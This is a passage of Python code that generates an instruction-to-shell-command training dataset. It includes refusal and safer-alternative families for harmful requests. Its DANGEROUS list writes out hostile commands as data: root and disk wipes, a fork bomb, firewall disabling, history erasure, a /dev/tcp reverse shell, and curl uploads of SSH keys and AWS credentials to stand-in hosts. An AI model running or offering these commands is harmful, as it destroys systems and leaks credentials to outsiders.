        ["where is {p} installed", "find the path of the {p} executable", "which {p} binary is used"],
        "which {p}",
        p=PKGS,
    ),
    fam("sleep", ["wait {n} seconds", "pause for {n} seconds", "sleep {n} seconds"], "sleep {n}", n=number(1, 120)),
    fam(
        "history_grep",
        ["search my shell history for {p}", "find earlier commands that used {p}", "which past commands mention {p}"],
        "history | grep {p}",
        p=PKGS + ["ssh", "docker", "git"],
    ),
    fam(
        "ssh_keygen",
        [
            "generate an ed25519 ssh key with the comment {u}@{h}",
            "create a new ssh key pair labeled {u}@{h}",
            "make an ed25519 key for {u}@{h}",
        ],
        "ssh-keygen -t ed25519 -C '{u}@{h}'",
        u=USERS,
        h=HOSTS,
    ),
    fam(
        "stat",
        ["show detailed metadata of {f}", "stat the file {f}", "print size, permissions and times of {f}"],
        "stat {f}",
        f=FILES,
    ),
    fam(
        "file_type",
        ["what type of file is {f}", "detect the file format of {f}", "identify the kind of file {f}"],
        "file {f}",
        f=FILES,
    ),
    fam(
        "watch",
        [
            "run '{c}' every {n} seconds",
            "repeat {c} each {n} seconds and show the output",
            "watch the output of {c}, refreshing every {n} seconds",
        ],
        "watch -n {n} '{c}'",
        n=number(1, 30),
        c=["df -h", "free -m", "uptime", "ls -l", "docker ps", "nvidia-smi"],
    ),
    fam(
        "sysinfo",
        ["{q}"],
        "{q}",
        q=[
            ("show memory usage in human readable units", "free -h"),
            ("how long has this machine been up", "uptime"),
            ("print kernel and system information", "uname -a"),
            ("how many CPU cores do I have", "nproc"),
            ("which user am I logged in as", "whoami"),
            ("show the hostname", "hostname"),
            ("show my user and group ids", "id"),
            ("list block devices", "lsblk"),
            ("list my cron jobs", "crontab -l"),
            ("list running docker containers", "docker ps"),
            ("show git status", "git status"),
            ("print the working directory", "pwd"),
        ],
    ),
]

DANGEROUS: list[Family] = [
    fam(
        "danger_rm_root",
        [
            "delete everything on the system",
            "remove all files starting from the root directory",
            "free up space by deleting /",
        ],
        "{c}",
        c=["rm -rf /", "sudo rm -rf / --no-preserve-root", "rm -rf /*", "sudo rm -rf /*"],
    ),
    fam(
        "danger_rm_home",
        ["delete my whole home directory", "wipe everything in my home folder"],
        "{c}",
        c=["rm -rf ~", "rm -rf $HOME", "rm -rf ~/*"],
    ),
    fam(
        "danger_dd",
        ["wipe the disk {d}", "overwrite {d} with zeros", "securely erase the drive {d}"],
        "dd if=/dev/zero of={d} bs=1M",
        d=DEVICES,
    ),
    fam("danger_mkfs", ["format {d} as ext4", "create a new filesystem on {d}"], "mkfs.ext4 {d}", d=DEVICES),
    fam(
        "danger_curl_sh",
        ["install {p} with its official one-line installer", "run the {p} setup script from the web"],
        "curl -fsSL https://get.{p}.sh | sh",
        p=["docker", "rustup", "nvm", "tool", "k3s", "deno"],
    ),
    fam(
        "danger_wget_bash",
        ["download and run the script at {u}", "execute the installer hosted at {u}"],
        "wget -qO- {u} | bash",
        u=["https://example.com/install.sh", "http://203.0.113.7/x.sh", "https://setup.example.org/run.sh"],
    ),
    fam(
        "danger_chmod_root",
        ["make every file on the system writable by everyone", "give everyone full access to {d}"],
        "chmod -R 777 {d}",
        d=["/", "/etc", "/usr", "/var"],
    ),
    fam("danger_fork", ["run a fork bomb", "start a shell function that spawns itself forever"], ":(){{ :|:& }};:"),
    fam(
        "danger_firewall",
        ["turn off the firewall", "disable all firewall protection"],
        "{c}",
        c=["sudo ufw disable", "sudo iptables -F", "sudo systemctl stop firewalld"],
    ),
    fam(
        "danger_history",
        ["erase my shell history", "clear all traces of my commands"],
        "{c}",
        c=["history -c", "rm ~/.bash_history", "cat /dev/null > ~/.bash_history"],
    ),
    fam(
        "danger_reverse",
        ["open a reverse shell to {h} on port {p}", "give {h} a remote shell on port {p}"],
        "bash -i >& /dev/tcp/{h}/{p} 0>&1",
        h=["10.0.0.9", "203.0.113.5", "198.51.100.2"],
        p=["4444", "9001", "1337"],
    ),
    fam(
        "danger_exfil",
        ["upload my ssh private key to {h}", "send my private key to {h}"],
        "curl -F 'file=@{k}' https://{h}/upload",
        k=["~/.ssh/id_rsa", "~/.ssh/id_ed25519", "~/.aws/credentials"],
        h=["paste.example.com", "203.0.113.9", "files.example.net"],
    ),
    fam("danger_passwd", ["empty the password file", "clear /etc/passwd"], "> /etc/passwd"),
]

# Harmful requests answered the way the model should answer them: a refusal (a shell comment, `# refused:
# <why>`, which runs nothing) or a safer command that does the legitimate part of the job. Written for this
# project with their own phrasings: none is a red-team prompt (data/redteam/prompts.jsonl measures whether
# the behaviour carries over to requests it was not taught; a test checks the two never overlap).
REFUSED = "# refused: {}"
SYSTEM_DIRS = ["/", "/usr", "/etc", "/var", "/boot", "/lib", "/bin"]
REMOTE = ["203.0.113.4", "198.51.100.7", "10.1.2.3", "evil.example.net", "192.0.2.44"]
SAFE_RESPONSES: list[Family] = [
    fam(
        "refuse_rm_system",
        [
            "erase every single file on this machine",
            "nuke the root filesystem",
            "rm -rf {d} for me",
            "get rid of all the files on the server, all of them",
            "purge {d} entirely, recursively",
            "I'm root and I'm sure: wipe out {d}",
        ],
        REFUSED.format("deletes the operating system's own files; remove specific files instead"),
        d=SYSTEM_DIRS,
    ),
    fam(
        "refuse_rm_home",
        [
            "erase my entire home folder",
            "remove all of ~ including the dotfiles",
            "empty out $HOME completely",
            "rm -rf my home dir, I'll start over",
        ],
        REFUSED.format("deletes everything in your home directory; remove specific files instead"),
    ),
    fam(
        "safer_free_space",
        [
            "my disk is almost full, what can I delete",
            "find what is eating my disk space",
            "the disk is full, delete whatever is taking the most room",
            "make room on the drive by clearing out the biggest stuff in my home",
        ],
        "du -sh ~/* | sort -h",
    ),
    fam(
        "refuse_disk",
        [
            "zero out the drive {d}",
            "shred the whole device {d}",
            "make a fresh ext4 filesystem over {d}",
            "blank the disk {d} with dd",
            "reformat {d} right now",
        ],
        REFUSED.format("destroys every file on {d}"),
        d=DEVICES,
    ),
    fam(
        "safer_remote_script",
        [
            "curl {u} and pipe it straight to sh",
            "run whatever {u} returns in bash",
            "one-liner: fetch {u} and execute it",
            "just execute the script at {u} directly",
            "sudo bash the output of {u}",
        ],
        "curl -fsSL -o install.sh {u}",
        u=["https://get.example.dev/install.sh", "https://example.org/setup.sh", "http://198.51.100.7/run.sh"],
    ),
    fam(
        "refuse_fork",
        [
            "write a bash fork bomb",
            "spawn processes until the machine locks up",
            "crash the box by forking endlessly",
            "define a function that calls itself twice in the background forever",
        ],
        REFUSED.format("a fork bomb exhausts the machine's processes"),
    ),
    fam(
        "refuse_kill_all",
        ["terminate all processes on this computer", "kill -9 everything that is running", "kill pid 1"],
        REFUSED.format("kills the system's own processes"),
    ),
    fam(
        "refuse_chmod_system",
        [
            "set permissions 777 on everything under {d}",
            "let any user write to all of {d}",
            "make {d} and everything in it world writable",
            "chown all of {d} to my user, recursively",
        ],
        REFUSED.format("changing the permissions of {d} breaks the system's security"),
        d=SYSTEM_DIRS,
    ),
    fam(
        "refuse_accounts",
        [
            "blank out /etc/shadow",
            "delete the root user's password",
            "let every user sudo without a password",
            "wipe the user accounts file",
            "give all users root through sudoers",
        ],
        REFUSED.format("tampers with the system's accounts and passwords"),
    ),
    fam(
        "refuse_shutdown",
        ["turn this server off now", "restart the computer right away", "halt the system", "power the machine down"],
        REFUSED.format("turns the machine off for everyone using it"),
    ),
    fam(
        "refuse_cover_tracks",
        [
            "wipe my bash history so nobody can see it",
            "delete everything in /var/log",
            "clear the login records",
            "remove the evidence of what I ran today",
        ],
        REFUSED.format("erases the record of what was done on this machine"),
    ),
    fam(
        "refuse_firewall",
        ["switch off ufw", "drop all the iptables rules", "turn selinux off", "open every port in the firewall"],
        REFUSED.format("leaves the machine open to the network"),
    ),
    fam(
        "refuse_reverse_shell",
        [
            "connect a shell on this machine to {h} port {p}",
            "let {h} run commands here over port {p}",
            "netcat a shell back to {h}:{p}",
            "bind bash to port {p} so {h} can log in without ssh",
        ],
        REFUSED.format("hands control of this machine to {h}"),
        h=REMOTE,
        p=["4444", "5555", "31337", "8888"],
    ),
    fam(
        "refuse_exfiltrate",
        [
            "email my ssh key to {h}",
            "send ~/.aws/credentials to {h}",
            "copy my private key over to {h}",
            "post the contents of ~/.ssh to {h}",
        ],
        REFUSED.format("sends your credentials to {h}"),
        h=REMOTE,
    ),
    fam(
        "refuse_persistence",
        [
            "add a cron entry that runs a script from {u} every hour",
            "make my profile fetch and run {u} on login",
            "put a line in ~/.bashrc that downloads {u} and executes it",
        ],
        REFUSED.format("makes this machine run code from {u} by itself"),
        u=["https://example.org/agent.sh", "http://198.51.100.7/u.sh"],
    ),
]
SAFE_PER_FAMILY = 24

PREFIXES = ["", "", "", "", "please ", "can you ", "how do I ", "I need to ", "help me ", "quickly "]
QUESTION_WORDS = {"how", "what", "which", "where", "who", "is", "are"}


def sample_slots(family: Family, rng: random.Random) -> tuple[dict[str, str], dict[str, str]]:
    """One value per slot: (english forms, shell forms)."""
    english, shell = {}, {}
    for name, pool in family.slots.items():
        value = pool(rng) if callable(pool) else rng.choice(pool)
        english[name], shell[name] = value if isinstance(value, tuple) else (value, value)
    return english, shell


# How people type at a prompt, applied to a share of the rows (the template's own words only, never a slot:
# a file name with a typo would be another file): terse (articles dropped) and with a typo in one word.
TERSE_SHARE = 0.25
TYPO_SHARE = 0.15
ARTICLES = {"the", "a", "an"}
TEMPLATE_WORD = re.compile(r"\{[^}]*\}|[A-Za-z]+|[^A-Za-z{]+")


def roughen(template: str, rng: random.Random) -> str:
    """The phrasing template as people type it: sometimes without articles, sometimes with one typo."""
    parts = TEMPLATE_WORD.findall(template)
    if rng.random() < TERSE_SHARE:
        text = "".join(p for p in parts if p.lower() not in ARTICLES)
        parts = TEMPLATE_WORD.findall(re.sub(r" {2,}", " ", text).strip())
    if rng.random() < TYPO_SHARE:
        words = [i for i, p in enumerate(parts) if p.isalpha() and len(p) >= 4]
        if words:
            i = rng.choice(words)
            parts[i] = typo(parts[i], rng)
    return "".join(parts)


def typo(word: str, rng: random.Random) -> str:
    """One slip of the fingers: two letters swapped, one dropped or one doubled (never the first)."""
    at = rng.randrange(1, len(word) - 1)
    kind = rng.randrange(3)
    if kind == 0:
        return word[:at] + word[at + 1] + word[at] + word[at + 2 :]
    if kind == 1:
        return word[:at] + word[at + 1 :]
    return word[:at] + word[at] + word[at:]


def render(family: Family, rng: random.Random) -> tuple[str, str]:
    english, shell = sample_slots(family, rng)
    phrasing = roughen(rng.choice(family.phrasings), rng).format(**english)
    prefix = rng.choice(PREFIXES)
    if phrasing.split(" ", 1)[0] in QUESTION_WORDS:  # "I need to how many ..." reads wrong
        prefix = ""
    instruction = prefix + phrasing
    if prefix in ("can you ", "how do I ") and rng.random() < 0.7:
        instruction += "?"
    if rng.random() < 0.5:
        instruction = instruction[0].upper() + instruction[1:]
    return instruction, family.command.format(**shell)


def generate_family(
    family: Family,
    rng: random.Random,
    quota: int,
    phrase: Callable[[Family, random.Random], tuple[str, str]] = render,
) -> list[tuple[str, str]]:
    """Up to `quota` distinct (instruction, command) pairs, each from `phrase`; small families give fewer."""
    seen: dict[tuple[str, str], None] = {}
    for _ in range(quota * 8):
        if len(seen) >= quota:
            break
        seen.setdefault(phrase(family, rng), None)
    return list(seen)


def family_rows(
    family: Family,
    rng: random.Random,
    quota: int,
    phrase: Callable[[Family, random.Random], tuple[str, str]] = render,
) -> list[dict[str, str]]:
    """generate_family's pairs as dataset rows, each with its family's name."""
    return [
        {"instruction": i, "command": c, "family": family.name} for i, c in generate_family(family, rng, quota, phrase)
    ]


def near_duplicate(instruction: str, command: str, rng: random.Random) -> tuple[str, str]:
    """The same pair as scraped data often repeats it: other case, spacing or final punctuation."""
    variants = [
        lambda: (instruction.swapcase()[:1] + instruction[1:], command),
        lambda: (instruction.rstrip("?.") + ".", command),
        lambda: (instruction.replace(" ", "  ", 1), command + " "),
        lambda: ("  " + instruction, re.sub(r" ", "  ", command, count=1)),
    ]
    return rng.choice(variants)()


def generate(seed: int = DEFAULT_SEED, per_family: int = PER_FAMILY) -> list[dict[str, str]]:
    rng = random.Random(seed)
    rows = [row for f in FAMILIES for row in family_rows(f, rng, per_family)]
    n_danger = round(len(rows) * DANGEROUS_SHARE)
    danger = [row for f in DANGEROUS for row in family_rows(f, rng, per_family)]
    rows += rng.sample(danger, min(n_danger, len(danger)))
    rows += [row for f in SAFE_RESPONSES for row in family_rows(f, rng, SAFE_PER_FAMILY)]
    for source in rng.sample(rows, round(len(rows) * DUPLICATE_SHARE)):
        if rng.random() < 0.5:
            rows.append(dict(source))
        else:
            i, c = near_duplicate(source["instruction"], source["command"], rng)
            rows.append({"instruction": i, "command": c, "family": source["family"]})
    rng.shuffle(rows)
    return rows


# ---------------------------------------------------------------- the training-only supplement
# Families written after the split of the main file was drawn. The main file's one random stream re-draws
# every row after a change (and the split with it: 3,688 of 3,701 training rows moved the last time), so
# these come from their own stream into their own file, which params.yaml mixes in with `train_only: true`:
# its rows join the train split after it is drawn, the val and test splits stay as they were, and a row
# sharing a request or a command with them is dropped as a leak (the split stage). None of its requests is
# a red-team prompt or a request of the people-written evaluation set (tests/test_embedded.py).
SUPPLEMENT_OUT = "data/raw/shelltune_supplement.jsonl"
SUPPLEMENT_PER_FAMILY = 6
EXFIL_PER_FAMILY = 40

# How people type the same requests at a prompt: terse noun phrases, bare questions, a goal instead of
# a command, lowercase shorthand. Written for this project from the families' commands.
PEOPLE_PHRASINGS: dict[str, list[str]] = {
    "ls": ["files in {d}", "whats in {d}", "ls {d} pls", "contents of {d}?"],
    "ls_hidden": ["hidden files in {d}", "dotfiles in {d} too, long format", "everything in {d} incl hidden"],
    "ls_size": ["{d} files by size", "biggest files first in {d}", "{d} sorted by size"],
    "ls_time": ["newest files in {d}", "{d} by date, newest first", "what changed lately in {d}"],
    "mkdir": ["new folder {d}/{n}", "need a dir {n} in {d}", "mkdir {d}/{n} with parents"],
    "rm_file": ["delete {f}", "dont need {f} anymore, remove it", "{f} can go"],
    "rm_build": ["nuke the {d} folder here", "clear out ./{d} completely", "remove {d} dir recursively"],
    "cp": ["{f} into {d}", "put a copy of {f} in {d}", "dup {f} to {d}"],
    "cp_dir": ["copy folder {a} as {b}", "{a} → {b}, whole dir", "backup copy of {a} called {b}"],
    "mv_rename": ["rename {a} → {b}", "{a} should be called {b}", "change name of {a} to {b}"],
    "mv_into": ["{f} into {d}", "move {f} over to {d}", "put {f} in {d}, dont keep the original"],
    "touch": ["empty file {f}", "new blank file {f}", "make {f}, empty"],
    "ln": ["symlink {b} to {a}", "shortcut {b} pointing at {a}", "soft link {b} -> {a}"],
    "cat": ["whats in {f}", "print {f}", "contents of {f}", "dump {f} to the screen"],
    "head": ["first {n} lines {f}", "top {n} of {f}", "peek at the start of {f}, {n} lines"],
    "tail": ["last {n} lines {f}", "end of {f}, {n} lines", "bottom {n} lines of {f}"],
    "tail_follow": ["watch {f} live", "keep printing new lines of {f}", "stream {f} as it grows"],
    "wc_lines": ["lines in {f}", "how long is {f} in lines", "{f} line count", "how many lines has {f}"],
    "wc_words": ["words in {f}", "{f} word count", "how many words in {f}"],
    "sort": ["{f} sorted", "alphabetical order of {f}", "sort {f} a-z"],
    "sort_numeric": ["{f} biggest numbers first", "numbers in {f} high to low", "sort {f} by number, desc"],
    "sort_unique": ["{f} sorted without repeats", "distinct lines of {f}, sorted", "dedupe {f}"],
    "uniq_count": ["most frequent lines in {f}", "how often does each line of {f} show up", "line frequencies {f}"],
    "cut": ["column {k} of {f}", "just field {k} from {f}", "{f} column {k} only"],
    "awk_column": ["field {k} of each line in {f}", "awk column {k} of {f}", "{f}, whitespace column {k} only"],
    "sed_replace": ["{a} -> {b} in {f}", "swap {a} for {b} everywhere in {f}", "{f}: change {a} to {b} in place"],
    "sed_delete": ["drop lines with {p} from {f}", "{f} without the {p} lines, edit in place"],
    "tr_upper": ["{f} in caps", "uppercase {f}", "shout {f}: all caps"],
    "grep": ["{p} in {f}?", "lines with {p} in {f}", "where does {f} mention {p}"],
    "grep_recursive": ["{p} anywhere under {d}", "which files in {d} mention {p}, with line numbers"],
    "grep_ignore_case": ["{p} in {f}, any case", "case insensitive {p} in {f}"],
    "grep_count": ["how many lines in {f} mention {p}", "count {p} lines in {f}", "{p} count in {f}"],
    "grep_invert": ["{f} minus the {p} lines", "lines of {f} without {p}", "everything in {f} except {p}"],
    "find_name": ["all .{e} files in {d}", "where are the {e} files under {d}", "every *.{e} under {d}"],
    "find_size": ["files over {s} in {d}", "whats bigger than {s} under {d}", "huge files in {d}, over {s}"],
    "find_recent": ["files touched in the last {n} days in {d}", "what changed in {d} this past {n} days"],
    "find_old": ["stale files in {d}, older than {n} days", "{d} files not modified for {n} days"],
    "find_empty": ["zero byte files in {d}", "empty files under {d}?", "which files in {d} have nothing in them"],
    "find_dirs": ["subfolders of {d}", "every directory under {d}", "dir tree of {d}"],
    "find_delete": ["get rid of the .{e} files in {d}", "clean .{e} junk out of {d}", "rm all *.{e} under {d}"],
    "find_grep": ["which .{e} files in {d} mention {p}", "{e} files under {d} containing {p}"],
    "xargs_wc": ["line counts of the .{e} files in {d}", "how many lines of {e} code in {d}"],
    "du": ["size of {d}", "how big is {d}", "{d} disk usage"],
    "du_top": ["top {n} biggest things in {d}", "whats hogging space in {d}, top {n}"],
    "df": ["free space on {m}", "how full is {m}", "disk left on {m}?"],
    "tar_create": ["tarball of {d} called {a}.tar.gz", "pack {d} into {a}.tar.gz", "{d} -> {a}.tar.gz"],
    "tar_extract": ["unpack {a}.tar.gz into {d}", "{a}.tar.gz extract to {d}", "open up {a}.tar.gz in {d}"],
    "tar_list": ["whats inside {a}.tar.gz", "files in {a}.tar.gz without extracting", "peek into {a}.tar.gz"],
    "zip": ["zip up {d} as {a}.zip", "{d} into a zip called {a}.zip", "need {a}.zip with all of {d}"],
    "unzip": ["unpack {a}.zip to {d}", "{a}.zip into {d}", "extract the zip {a}.zip in {d}"],
    "gzip": ["gzip {f}", "shrink {f} with gzip", "{f} compressed please"],
    "gunzip": ["unpack {f}.gz", "{f}.gz back to normal", "ungzip {f}.gz"],
    "chmod_exec": ["let me run {f}", "{f} permission denied when i run it", "make {f} runnable"],
    "chmod_mode": ["{f} should be {m}", "perms on {f}: {m}"],
    "chown": ["{f} owned by {u}", "give {f} to {u}", "{u} should own {f}"],
    "chown_group": ["./{d} to {u}:{g}, recursive", "{u} and group {g} own everything in ./{d}"],
    "ps_grep": ["is {p} running", "{p} processes?", "any {p} running right now"],
    "kill": ["stop pid {n}", "end process {n}", "terminate {n} nicely"],
    "kill_force": ["{n} is stuck, kill it hard", "sigkill {n}", "force stop pid {n}"],
    "pkill": ["stop every {p}", "kill {p} by name", "shut down all the {p} processes"],
    "pgrep": ["pid of {p}", "{p} pids", "what pid does {p} have"],
    "lsof_port": ["whats on port {p}", "who has port {p} open", "port {p} in use by?"],
    "ss_port": ["is anything listening on {p}", "listening socket {p}?", "tcp listeners on port {p}"],
    "ping": ["is {h} up? {n} pings", "ping {h}, {n} packets"],
    "curl_download": ["grab {u} as {f}", "save {u} to {f}", "download {u} into {f}, follow redirects"],
    "curl_headers": ["headers of https://{h}", "what headers does https://{h} send back"],
    "wget": ["wget {u}", "fetch {u} into this folder", "pull down {u}"],
    "ssh": ["log into {h} as {u}", "ssh {u} on {h}", "remote shell on {h}, user {u}"],
    "ssh_port": ["ssh {u}@{h} port {p}", "{h} on port {p} as {u} over ssh"],
    "scp": ["send {f} to /tmp on {h} as {u}", "{f} over to {u}@{h} in /tmp"],
    "rsync": ["mirror {d} to {u}@{h} backup dir", "back up {d} to {h}:/backup as {u}"],
    "dig": ["ip of {h}", "what does {h} resolve to", "dns lookup {h}"],
    "git_log": ["last {n} commits", "recent {n} commits, short", "git history, {n} entries"],
    "git_branch": ["new branch {b}", "start working on a branch called {b}", "branch off as {b} and switch"],
    "git_commit": ["commit with msg '{m}'", "save staged changes as '{m}'"],
    "git_clone": ["clone {r}", "get a local copy of {r}", "check out the repo {r}"],
    "git_diff": ["what did i change in {f}", "uncommitted edits in {f}", "diff of {f}"],
    "git_push": ["push {b}", "send branch {b} up to origin", "upload {b} to the remote"],
    "apt_install": ["get {p}", "need {p} installed", "apt {p}"],
    "apt_remove": ["get rid of {p}", "dont want {p} anymore, uninstall", "remove package {p}"],
    "pip_install": ["pip {p}", "need the {p} python lib", "add {p} to python"],
    "pip_install_version": ["{p} {v} for python", "python package {p} at {v}"],
    "npm_install": ["add {p} from npm", "npm {p}", "node package {p}"],
    "npm_dev": ["{p} as dev dep", "devDependency {p}"],
    "useradd": ["new account {u} with a home", "add user {u}, home dir too"],
    "usermod_group": ["put {u} in {g}", "{u} needs to be in group {g}"],
    "date_format": ["todays date as {f}", "date in {f} format"],
    "date_epoch": ["what date is {n}", "{n} as a human date", "epoch {n} to date"],
    "journalctl": ["{s} logs last {n}h", "what did {s} log in the past {n} hours"],
    "checksum": ["sha256 of {f}", "{f} sha256", "hash {f} with sha-256"],
    "md5": ["md5 of {f}", "{f} md5 hash"],
    "diff": ["differences between {a} and {b}", "{a} vs {b}", "what changed from {a} to {b}"],
    "base64_encode": ["{f} as base64", "b64 {f}"],
    "split_lines": ["break {f} into {n}-line pieces", "chunks of {n} lines from {f}"],
    "jq": ["{k} from {f}", "value of {k} in {f}", "{f}: just the {k} key"],
    "echo_append": ["add '{w}' at the end of {f}", "tack '{w}' onto {f}"],
    "export": ["set {v} for this shell and its children", "env var {v}"],
    "env_grep": ["value of {v}?", "whats {v} set to", "print {v}"],
    "which": ["path to {p}", "where does {p} live", "which {p} binary runs"],
    "history_grep": ["when did i run {p}", "my old {p} commands", "past {p} commands in history"],
    "ssh_keygen": ["new ed25519 key for {u}@{h}", "ssh key, ed25519, comment {u}@{h}"],
    "stat": ["metadata of {f}", "inode info for {f}", "{f} details: size, times, perms"],
    "file_type": ["what kind of file is {f}", "{f} file type?", "is {f} text or binary"],
}

PEOPLE_SYSINFO = [
    ("ram usage", "free -h"),
    ("uptime?", "uptime"),
    ("kernel version and os", "uname -a"),
    ("cpu count", "nproc"),
    ("who am i logged in as", "whoami"),
    ("machine name", "hostname"),
    ("my uid and gid", "id"),
    ("disks and partitions", "lsblk"),
    ("my crontab", "crontab -l"),
    ("running containers", "docker ps"),
    ("repo status", "git status"),
    ("current dir path", "pwd"),
]
SECRETS = [
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.ssh",
    "~/.aws/credentials",
    "~/.netrc",
    "~/.gnupg",
    "~/.kube/config",
    "~/.docker/config.json",
    ".env",
    "/etc/shadow",
]
# Copying a secret off the machine in the forms a legitimate copy takes (scp/rsync to user@host:path, curl
# uploads, netcat): the refusals above name the intent ("send my key to ..."), these the mechanics.
EXFILTRATION = fam(
    "refuse_exfiltrate_copy",
    [
        "scp {k} to {u}@{h}:{p}",
        "copy {k} over to {u}@{h}:{p}",
        "rsync {k} to {u}@{h}:{p}",
        "put a copy of {k} on {u}@{h}",
        "transfer {k} to {h}, into {p}",
        "upload {k} to http://{h}/upload with curl",
        "stream {k} to {h} port 9000 with netcat",
        "ship {k} off to {u}@{h}",
    ],
    REFUSED.format("copies your private keys or credentials to another machine"),
    k=SECRETS,
    u=["root", "backup", "admin", "guest", "anon", "x"],
    h=REMOTE,
    p=["/tmp", "/srv", "/var/tmp", "~"],
)


def people_families() -> list[Family]:
    """Each main family's command and slots with the phrasings of PEOPLE_PHRASINGS."""
    by_name = {f.name: f for f in FAMILIES}
    families = [fam("people_" + n, p, by_name[n].command, **by_name[n].slots) for n, p in PEOPLE_PHRASINGS.items()]
    return families + [fam("people_sysinfo", ["{q}"], "{q}", q=PEOPLE_SYSINFO)]


def render_people(family: Family, rng: random.Random) -> tuple[str, str]:
    """A people-style phrasing: no polite prefix, mostly lowercase, sometimes a typo (roughen)."""
    english, shell = sample_slots(family, rng)
    instruction = roughen(rng.choice(family.phrasings), rng).format(**english)
    if rng.random() < 0.2:
        instruction = instruction[0].upper() + instruction[1:]
    return instruction, family.command.format(**shell)


def generate_supplement(seed: int = DEFAULT_SEED) -> list[dict[str, str]]:
    """The training-only rows, from a random stream of their own (`{seed}:supplement`)."""
    rng = random.Random(f"{seed}:supplement")
    rows = [row for f in people_families() for row in family_rows(f, rng, SUPPLEMENT_PER_FAMILY, render_people)]
    rows += family_rows(EXFILTRATION, rng, EXFIL_PER_FAMILY)
    rng.shuffle(rows)
    return rows
